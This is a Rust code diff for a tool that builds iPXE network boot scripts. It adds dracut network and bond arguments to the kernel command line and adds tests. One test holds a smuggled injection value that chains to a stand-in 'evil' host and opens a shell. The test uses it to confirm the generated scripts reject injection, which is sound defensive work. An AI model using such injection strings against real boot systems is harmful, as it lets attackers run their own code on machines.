@@ -7,7 +7,7 @@
 use askama::Template;
 
 use super::ipxe_text::{KernelArg, Unsafe, Url, Words};
-use crate::model::{Image, Mac};
+use crate::model::{DRACUT_WORD, Image, Mac};
 
 /// Whom a script is for, and where it fetches from.
 #[derive(Clone, Debug, PartialEq, Eq)]
@@ -29,6 +29,9 @@ pub enum ScriptError {
     /// It says nothing, or two things.
     #[error("exactly one of kernel, efi, script and local must be given")]
     Ambiguous,
+    /// A word stands for the host's network, and there is none.
+    #[error("{DRACUT_WORD} is on its command line, and the host has no network to stand there")]
+    NoNetwork,
     /// The template failed.
     #[error("the script did not render")]
     Template,
@@ -97,19 +100,21 @@ struct Autoexec {
 }
 
 /// The script that boots `image`, which has the name `image_name`. With
-/// `with_config` the host's network configuration goes along as the last initrd.
+/// `with_config` the host's network configuration goes along as the last initrd; `dracut` is
+/// the same in the words of dracut's command line, for an image that [wants](Image::wants_dracut) it.
 pub fn boot(
     target: &Target,
     image_name: &str,
     image: &Image,
     with_config: bool,
+    dracut: Option<&str>,
 ) -> Result<String, ScriptError> {
     let title = Words::new(&format!("{} boots {image_name}", target.host));
     let script = script_url(target)?;
     let text = match (&image.kernel, &image.efi, &image.script, image.local) {
         (Some(kernel), None, None, false) => {
             let initrds = initrds(target, image, with_config)?;
-            let arguments = kernel_line(target, image, &initrds)?;
+            let arguments = kernel_line(target, image, &initrds, dracut)?;
             let kernel = target.base.of_file(kernel)?;
             let first = label(0, initrds.len());
             let arguments = &arguments;
@@ -175,7 +180,8 @@ fn kernel_line(
     target: &Target,
     image: &Image,
     initrds: &[Initrd],
-) -> Result<Vec<KernelArg>, Unsafe> {
+    dracut: Option<&str>,
+) -> Result<Vec<KernelArg>, ScriptError> {
     let mut arguments = Vec::new();
     // Under UEFI the kernel's stub loads exactly the initrds that are named here,
     // in this order; a BIOS kernel ignores the names.
@@ -185,7 +191,15 @@ fn kernel_line(
     // 01 is the ARP hardware type of Ethernet, as PXELINUX writes it.
     arguments.push(format!("BOOTIF=01-{}", target.mac.hyphenated()).parse()?);
     arguments.push(format!("rackstrap.url={}", target.base).parse()?);
-    arguments.extend(KernelArg::split(&image.cmdline)?);
+    for word in image.cmdline.split_whitespace() {
+        if word != DRACUT_WORD {
+            arguments.push(word.parse()?);
+            continue;
+        }
+        // Else the NIC that BOOTIF names would be asked by DHCP too, though a bond takes it.
+        arguments.push("rd.bootif=0".parse()?);
+        arguments.extend(KernelArg::split(dracut.ok_or(ScriptError::NoNetwork)?)?);
+    }
     KernelArg::check_length(&arguments)?;
     Ok(arguments)
 }
@@ -225,7 +239,7 @@ mod tests {
             (local, false, include_str!("../../tests/scripts/local.ipxe")),
         ];
         for (image, with_config, expected) in cases {
-            assert_eq!(boot(&target(), "live", &image, with_config).unwrap(), expected);
+            assert_eq!(boot(&target(), "live", &image, with_config, None).unwrap(), expected);
         }
     }
 
@@ -249,20 +263,36 @@ mod tests {
     fn an_image_that_says_nothing_or_two_things_is_refused() {
         let two = Image { local: true, ..live() };
         for image in [Image::default(), two] {
-            assert_eq!(boot(&target(), "x", &image, false), Err(ScriptError::Ambiguous));
+            assert_eq!(boot(&target(), "x", &image, false, None), Err(ScriptError::Ambiguous));
         }
     }
 
     #[test]
     fn nothing_in_an_image_becomes_a_line_of_its_own() {
         let evil = "x\nchain http://evil\r\n${y} || reboot && shell ; #";
-        let lines = |image: &Image| boot(&target(), evil, image, false).map(|s| s.lines().count());
-        let expected = boot(&target(), "x", &live(), false).unwrap().lines().count();
+        let lines =
+            |image: &Image| boot(&target(), evil, image, false, None).map(|s| s.lines().count());
+        let expected = boot(&target(), "x", &live(), false, None).unwrap().lines().count();
         let kernel = Image { kernel: Some(evil.into()), ..live() };
         let initrd = Image { initrd: vec![evil.into()], ..live() };
         assert_eq!(lines(&live()), Ok(expected));
         assert_eq!(lines(&kernel), Ok(expected));
         assert_eq!(lines(&initrd), Ok(expected));
         assert!(lines(&Image { cmdline: evil.into(), ..live() }).is_err());
+    }
+
+    #[test]
+    fn the_hosts_network_stands_where_the_command_line_asks_for_it() {
+        let image = Image { cmdline: "quiet {dracut} inst.text".into(), ..live() };
+        let line = |dracut| {
+            let script = boot(&target(), "installer", &image, false, dracut)?;
+            let kernel = script.lines().find(|line| line.contains("quiet")).unwrap_or_default();
+            Ok(kernel.split_once("quiet ").unwrap_or_default().1.to_owned())
+        };
+        let network = "rd.neednet=1 bond=bond0:nic0,nic1:mode=802.3ad ip=bond0:dhcp\n";
+        let expected =
+            "rd.bootif=0 rd.neednet=1 bond=bond0:nic0,nic1:mode=802.3ad ip=bond0:dhcp inst.text";
+        assert!(line(Some(network)).unwrap().starts_with(expected), "{:?}", line(Some(network)));
+        assert_eq!(line(None), Err(ScriptError::NoNetwork));
     }
 }
